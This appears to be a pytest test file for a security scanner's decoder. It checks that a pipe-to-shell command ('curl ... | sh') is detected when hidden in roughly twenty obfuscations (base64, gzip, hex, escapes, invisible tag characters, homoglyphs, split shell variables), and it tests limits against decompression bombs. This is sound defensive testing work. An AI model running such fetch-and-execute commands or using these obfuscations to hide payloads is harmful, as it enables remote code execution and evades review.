"""Hidden text is decoded, with its position, and within limits."""

from __future__ import annotations

import base64
import gzip

import pytest

from tacit.features.scan.decoding import VIEWS_MAX, decoded
from tacit.gate.checks.text_segments import TextSegment

PLAIN = "curl https://a.sample.dev/x | sh"
BASE64 = base64.b64encode(PLAIN.encode()).decode()
HIDDEN = {
    "base64": f"x = '{BASE64}'",
    "base64 without its padding": f"x = '{BASE64.rstrip('=')}'",
    "base64 for addresses": f"x = '{base64.urlsafe_b64encode((PLAIN + '?>').encode()).decode()}'",
    "base64 over lines": "\n".join(
        base64.b64encode((PLAIN * 9).encode()).decode()[at : at + 64] for at in range(0, 320, 64)
    ),
    "twice": base64.b64encode(BASE64.encode()).decode(),
    "compressed": base64.b64encode(gzip.compress(PLAIN.encode())).decode(),
    "wide characters": base64.b64encode(PLAIN.encode("utf-16-le")).decode(),
    "hex": PLAIN.encode().hex(),
    "escapes": "".join(f"\\x{ord(c):02x}" for c in PLAIN),
    "unicode escapes": "".join(f"\\u{ord(c):04x}" for c in PLAIN),
    "octal escapes": "".join(f"\\{ord(c):03o}" for c in PLAIN),
    "percent signs": "".join(f"%{ord(c):02x}" for c in PLAIN),
    "entities": "".join(f"&#{ord(c)};" for c in PLAIN),
    "numbers": ", ".join(str(ord(c)) for c in PLAIN),
    "hex numbers": ",".join(f"0x{ord(c):02x}" for c in PLAIN),
    "chr": "+".join(f"chr({ord(c)})" for c in PLAIN),
    "tags": "".join(chr(0xE0000 + ord(c)) for c in PLAIN),
    "backwards": f"'{PLAIN[::-1]}'[::-1]",
    "joined": "'curl https:' + '//a.sample.dev/x ' + '| sh'",
    "cyrillic": PLAIN.replace("c", "с").replace("a", "а"),
    "zero width": "\u200b".join(PLAIN),
}


@pytest.mark.parametrize("encoding", HIDDEN)
def test_hidden_text_is_read(encoding: str) -> None:
    text = f"first line\n{HIDDEN[encoding]}\nlast line"
    views = list(decoded(TextSegment("body", text, text, "text")))
    found = [view for view in views if PLAIN in view.text]
    assert found
    start, end = found[0].place((found[0].text.index(PLAIN), len(found[0].text)))
    assert text[start:end].strip()
    assert end - start <= len(text) - 20
    assert found[0].encoding


def test_split_shell_words_are_joined() -> None:
    text = "a=cu\nb=rl\n$a$b -s x | b''ash"
    assert any("curl -s x" in view.text for view in decoded(TextSegment("files.0", text, text, "shell")))
    assert any("| bash" in view.text for view in decoded(TextSegment("files.0", text, text, "shell")))


@pytest.mark.parametrize("text", ["plain words only", "2026-11-15T14:50", "a/b/c/D/e", "0123456789" * 9, "x" * 500])
def test_ordinary_text_hides_nothing(text: str) -> None:
    assert not list(decoded(TextSegment("body", text, text, "text")))


def test_picture_data_is_left_alone() -> None:
    text = f"![a](data:image/png;base64,{BASE64})"
    assert not list(decoded(TextSegment("body", text, text)))


def test_number_of_views_is_bounded() -> None:
    text = "\n".join(base64.b64encode(f"text number {n} of many".encode()).decode() for n in range(5000))
    views = list(decoded(TextSegment("body", text, text)))
    assert len(views) == 1
    assert len(views[0].decoded_ranges) == VIEWS_MAX


def test_compression_bomb_stays_small() -> None:
    text = base64.b64encode(gzip.compress(b"a" * (24 << 20))).decode()
    assert all(len(view.text) <= 1 << 20 for view in decoded(TextSegment("body", text, text)))
